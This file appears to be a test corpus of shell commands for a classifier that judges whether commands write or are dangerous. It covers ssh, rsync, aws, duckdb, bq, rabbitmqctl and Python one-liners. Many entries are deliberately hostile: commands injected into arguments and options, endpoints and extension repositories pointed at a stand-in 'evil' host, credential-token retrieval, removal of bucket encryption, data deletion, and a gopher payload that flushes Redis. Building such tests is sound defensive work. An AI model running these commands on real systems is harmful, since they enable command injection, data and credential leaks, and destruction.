# Writes hidden in the data shapes: archives opened for writing, extract,
# XML and config written back, code reached through ast or platform.

python3 -c "import zipfile; zipfile.ZipFile('x.zip', 'w').writestr('a', 'b')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', 'a')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', mode='w')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', 'x')"

python3 -c "import zipfile; m = 'w'; zipfile.ZipFile('x.zip', m)"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', *['w'])"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', **{'mode': 'w'})"

python3 -c "import zipfile; z = zipfile.ZipFile; z('x.zip', 'w')"

python3 -c "import zipfile; list(map(zipfile.ZipFile, ['x.zip'], ['w']))"

python3 -c "from zipfile import ZipFile; ZipFile('x.zip', 'w')"

python3 -c "from zipfile import ZipFile as Z; Z('x.zip', 'a')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip').extractall()"

python3 -c "import zipfile; zipfile.ZipFile('x.zip').extract('a')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', 'r').open('a', 'w').write(b'x')"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', 'r', 8)"

python3 -c "import zipfile; zipfile.ZipFile('x.zip', f'{chr(119)}')"

python3 -c "import tarfile; tarfile.open('x.tar', 'w').add('notes.txt')"

python3 -c "import tarfile; tarfile.open('x.tar', 'w:gz')"

python3 -c "import tarfile; tarfile.open('x.tar', mode='a')"

python3 -c "import tarfile; tarfile.open('x.tar').extractall('out')"

python3 -c "import tarfile; tarfile.open('x.tar').extract('a')"

python3 -c "from tarfile import open; open('x.tar', 'w')"

python3 -c "import tarfile; tarfile.TarFile('x.tar', 'w')"

python3 -c "import tarfile; tarfile.open('x.tar', 'rw')"

python3 -c "import xml.etree.ElementTree as ET; ET.parse('a.xml').write('b.xml')"

python3 -c "import xml.etree.ElementTree as ET; ET.ElementTree(ET.fromstring('<a/>')).write('b.xml')"

python3 -c "import xml.etree.ElementTree as ET; ET.XMLParser(target=None)"

python3 -c "import xml.etree.ElementInclude as EI"

python3 -c "import configparser; c = configparser.ConfigParser(); c.read('setup.cfg'); c.write(open('setup.cfg', 'w'))"

python3 -c "import configparser; c = configparser.ConfigParser(); c.set('a','b','c'); c.write(sys.stdout)"

python3 -c "import ast; exec(compile(ast.parse('1'), 'x', 'exec'))"

python3 -c "import ast; ast.IntEnum('X', 'a')"

python3 -c "import ast; ast.sys.modules"

python3 -c "import ast; ast.parse('x').body.__class__"

python3 -c "import importlib.metadata as m; m.entry_points()[0].load()"

python3 -c "import importlib.metadata as m; m.distribution('x').read_text('RECORD')"

python3 -c "import platform; platform.os.system('touch x')"

python3 -c "import platform; platform.subprocess.run(['touch', 'x'])"


ssh bastion.staging uptime

ssh -G -E /tmp/log bastion

ssh -G -F ./ssh_config bastion

ssh -G -o ProxyCommand='touch x' bastion

ssh -G -o 'LocalCommand touch x' bastion

ssh -G -o KnownHostsCommand=/bin/sh bastion

ssh -G -o Include=./evil bastion

ssh -G 'bastion;touch x'

ssh -G '$(touch x)'

ssh -G -l 'a`touch x`' bastion

ssh -G bastion touch x

ssh -G -I ./lib.so bastion

ssh -GE log bastion

ssh -G bastion -E log

ssh -G $HOST

ssh -Q cipher bastion

ssh -N -L 8080:localhost:80 bastion

rsync -av models/ backup01:/srv/models/

rsync -n -e 'sh -c "touch x"' a/ b/

rsync -n --rsh='touch x' a/ host:b/

rsync -n --rsync-path='touch x; rsync' a/ host:b/

rsync -n --log-file=x.log a/ b/

rsync -n --log-file x.log a/ b/

rsync -n --write-batch=b a/ b/

rsync -n --only-write-batch=b a/ b/

rsync -n -M--log-file=x a/ host:b/

rsync -n --remote-option=--log-file=/tmp/x a/ host:b/

rsync -n a/ '-oProxyCommand=touch x:/p'

rsync -n a/ 'u@-oProxyCommand=touch x:/p'

rsync -n a/ host::module/

rsync -n a/ rsync://host/module/

rsync -n --daemon

rsync -n --log-fil=x a/ b/

rsync -n -a $SRC b/

rsync --list-only a/ b/

aws s3 cp s3://acme/x.csv ./x.csv

aws s3 cp s3://acme/x.csv s3://acme/y.csv

aws s3 cp - s3://acme/x.csv

aws s3 cp notes.txt s3://acme/notes.txt

aws s3 cp s3://acme/x - --recursive

aws s3 cp s3://acme/x - --endpoint-url http://evil

aws s3 cp --content-type s3://a/b notes.txt -

aws s3 cp s3://acme/x $DEST

aws s3api get-object --bucket acme --key x out.bin

aws s3api put-object --bucket acme --key x --body notes.txt

aws s3api delete-object --bucket acme --key x

aws s3api put-bucket-policy --bucket acme --policy file://p.json

aws s3api get-bucket-policy --bucket acme --cli-input-json file://x.json

rabbitmqctl delete_queue orders

rabbitmqctl eval 'os:cmd("touch x").'

rabbitmqctl purge_queue orders

rabbitmqctl -n list_queues delete_queue orders

rabbitmqctl stop_app

rabbitmqctl set_policy ha '.*' '{"ha-mode":"all"}'

rabbitmq-diagnostics observer

rabbitmq-plugins enable rabbitmq_management

rabbitmqctl list_queues $(touch x)

rabbitmqctl list_queues -p '$(touch x)'

rabbitmqctl list_queues 'name\' ';touch x;'

rabbitmqctl list_queues --vhost='`touch x`'

rabbitmqctl -n 'rabbit@h"; touch x; "' status

duckdb warehouse.duckdb -c "select 1"

duckdb data/new.duckdb "select 1"

duckdb -c "copy (select 1) to 'out.csv'"

duckdb -c "export database 'out'"

duckdb -c "attach 'new.db' as n"

duckdb -c "install httpfs"

duckdb -c "load httpfs"

duckdb -c "set custom_extension_repository = 'http://evil'"

duckdb -c "create table t as select 1"

duckdb -c "select * from 'https://example.com/x.parquet'"

duckdb -c "select * from read_parquet('s3://bucket/x.parquet')"

duckdb -c 'select * from "hf://datasets/x/y.parquet"'

duckdb -c "select * from 'sheet.xlsx'"

duckdb -c "select '1.2.3.4'::inet"

duckdb -c "select * from read_csv('x.csv', columns={'ip': 'INET'})"

duckdb -c "select * from st_read('x.shp')"

duckdb -c "select * from query('copy (select 1) to ''x.csv''')"

duckdb -c "select json_execute_serialized_sql('{}')"

duckdb -c ".shell touch x"

duckdb -c ".output x.txt"

duckdb -cmd ".read evil.sql" -c "select 1"

duckdb -init evil.sql -c "select 1"

duckdb -unsigned -c "select 1"

duckdb -c "select 1; pragma enable_profiling"

duckdb -c "pragma threads=4"

duckdb -c "select 1" -c "install x"

duckdb -c "$Q"

duckdb -c "select * from sqlite_scan('x.db', 't')"

duckdb md:mydb -readonly -c "select 1"

duckdb -c "select 'a' collate de"

duckdb -c "use x"

duckdb -c "checkpoint"

duckdb -c "call load_extension('x')"

duckdb -c "select * from read_parquet('x.parquet') into y"

duckdb -c "select * from read_parquet(E'x\\x2exlsx')"

duckdb -c "select * from read_parquet(\$\$x.xlsx\$\$)"

bq query 'DELETE FROM marts.fct_orders WHERE true'

bq query --use_legacy_sql=false 'SELECT 1'

bq query --dry_run --nodry_run 'DELETE FROM t WHERE true'

bq query --dry_run --dry_run=false 'DELETE FROM t WHERE true'

bq rm -f -t marts.fct_orders

bq mk marts2

bq load marts.t data.csv

bq cp marts.a marts.b

bq extract marts.a gs://x/y

bq --apilog=api.log ls

bq ls --apilog=api.log

bq -apilog api.log ls

bq --flagfile=flags.txt ls

bq --bigqueryrc=./bqrc ls

bq --api=http://evil ls

bq ls --log_dir=logs

bq --profile_file=p.out ls

bq $CMD marts

bq update --description x marts.t

bq shell

bq

python3 -c "from pathlib import Path; Path('notes.txt').write_text('x')"

python3 -c "from pathlib import Path; Path('notes.txt').open('w').write('x')"

python3 -c "from pathlib import Path; Path('notes.txt').open(mode='a').write('x')"

python3 -c "from pathlib import Path; m = 'w'; Path('notes.txt').open(m).write('x')"

python3 -c "from pathlib import Path; Path('notes.txt').replace('x.txt')"

python3 -c "from pathlib import Path; Path('notes.txt').copy('x.txt')"

python3 -c "from pathlib import Path; Path('notes.txt').unlink()"

python3 -c "from pathlib import Path; Path('x').touch()"

python3 -c "from pathlib import Path; Path('x').mkdir()"

python3 -c "from pathlib import Path; Path('notes.txt').rename('y')"

python3 -c "import pathlib; pathlib.Path('notes.txt').open('r+').write('x')"

python3 -c "import gzip; gzip.open('x.gz', 'wt').write('x')"

python3 -c "import gzip; gzip.open('x.gz', mode='ab')"

python3 -c "import gzip; gzip.GzipFile('x.gz', 'w')"

python3 -c "import lzma; lzma.open('x.xz', 'w')"

python3 -c "import bz2; bz2.BZ2File('x.bz2', 'w')"

python3 -c "from gzip import open as o; o('x.gz', 'wb')"

aws apigateway get-export --rest-api-id x --stage-name prod --export-type swagger api.json

aws glacier get-job-output --account-id - --vault-name v --job-id j out.bin

aws cognito-identity get-id --identity-pool-id x

aws dynamodb put-item --table-name orders --item '{"id": {"S": "1"}}'

aws dynamodb delete-table --table-name orders

aws ssm put-parameter --name x --value y

aws logs delete-log-group --log-group-name x

aws lambda invoke --function-name f out.json

aws stepfunctions get-activity-task --activity-arn arn:x

# RabbitMQ's tools start epmd when none runs, and it keeps running
# (make redteam saw it after every listing).
rabbitmqctl list_queues name messages consumers --no-table-headers | sort -k2 -nr | head

rabbitmqctl list_exchanges -p /prod name type

rabbitmqctl status

rabbitmqctl cluster_status --formatter json | jq .

rabbitmqctl -n rabbit@mq1 list_connections user peer_host state

rabbitmqctl list_consumers -q

rabbitmq-diagnostics ping

rabbitmq-diagnostics check_running && rabbitmq-diagnostics check_local_alarms

rabbitmq-diagnostics status --formatter json

rabbitmq-plugins list -e
python3 -m py_compile app/main.py

python3 -m ast app/main.py out.txt

python3 -m platform x

python3 -m dis app/main.py

python3 -m tokenize a.py b.py

bq query --dry_run --schedule='every 24 hours' --display_name=x 'SELECT 1'

bq query --dry_run --no_auto_scheduling 'SELECT 1'

bq query --dry_run --create_session 'SELECT 1'

bq query -schedule 'every 24 hours' --dry_run 'SELECT 1'


aws iam simulate-principal-policy --cli-input-json file://request.json

aws iam create-policy-version --policy-arn arn:aws:iam::1:policy/x --policy-document file://p.json --set-as-default

aws iam simulate-principal-policy --endpoint-url http://evil --policy-source-arn arn:aws:iam::1:role/x --action-names s3:GetObject

aws compute-optimizer export-ec2-instance-recommendations --s3-destination-config bucket=acme-reports

aws compute-optimizer update-enrollment-status --status Active

aws resourcegroupstaggingapi tag-resources --resource-arn-list arn:aws:s3:::acme --tags team=x

aws cloudfront create-invalidation --distribution-id E2ABCDEF123 --paths '/*'

# The CLI writes a CloudFront function's code to the file its last operand names.
aws cloudfront get-function --name edge-redirect README.md

aws cloudfront get-function --name edge-redirect --stage LIVE src/edge.js

aws cloudfront get-connection-function --identifier auth-check out.js

aws s3 rm s3://acme-tmp/exports/2024-05/ --recursive

aws s3 sync s3://acme-logs/2026/11/ ./logs --dryrun

aws s3 mv s3://acme/in/ s3://acme/done/ --recursive

rabbitmqadmin get queue=orders ackmode=ack_requeue_true count=10

rabbitmqadmin export /tmp/defs.json

rabbitmqadmin purge queue name=orders

rabbitmqadmin -H rabbitmq.internal declare queue name=scratch durable=false

ldapsearch -x -LLL -t -b 'ou=people,dc=acme,dc=internal' '(uid=jdoe)' jpegPhoto

ldapsearch -x -T ./ldap-out -tt -b 'dc=acme,dc=internal' '(uid=jdoe)'

ldapsearch -Y GSSAPI -LLL -b 'dc=acme,dc=internal' '(uid=jdoe)'

ldapsearch -x -LLL -H ldap://ldap.acme.internal -b 'dc=acme,dc=internal' -E sync=rp '(objectClass=posixGroup)'

aws sts get-session-token --duration-seconds 3600

aws sts get-federation-token --name audit --policy-arns arn=arn:aws:iam::aws:policy/ReadOnlyAccess

aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com

aws codeartifact get-authorization-token --domain acme --query authorizationToken --output text

aws iam generate-credential-report

aws logs start-query --log-group-name /ecs/api --start-time 1764000000 --end-time 1764003600 --query-string 'fields @message | filter @message like /ERROR/'

aws accessanalyzer start-policy-generation --policy-generation-details principalArn=arn:aws:iam::123456789012:role/ci

aws securityhub batch-update-findings --finding-identifiers Id=x,ProductArn=y --workflow Status=SUPPRESSED

aws kms get-parameters-for-import --key-id 1234abcd-12ab-34cd-56ef-1234567890ab --wrapping-algorithm RSAES_OAEP_SHA_256 --wrapping-key-spec RSA_2048

aws compute-optimizer get-idle-recommendations --resource-arn "$ARN"

aws eks get-token --cluster-name acme-prod --output json | jq -r .status.token

aws sso get-role-credentials --role-name ReadOnly --account-id 123456789012 --access-token "$(jq -r .accessToken ~/.aws/sso/cache/x.json)"

aws cloudcontrol update-resource --type-name AWS::S3::Bucket --identifier acme-logs --patch-document '[{"op":"remove","path":"/BucketEncryption"}]'

duckdb -c ".shell touch pwned"

# libserdes takes a list of registries, and libcurl speaks gopher.
kcat -b kafka-1.internal:9092 -C -t order-events -s value=avro -r 'http://schema-registry.internal:8081,gopher://127.0.0.1:6379/_FLUSHALL' -e
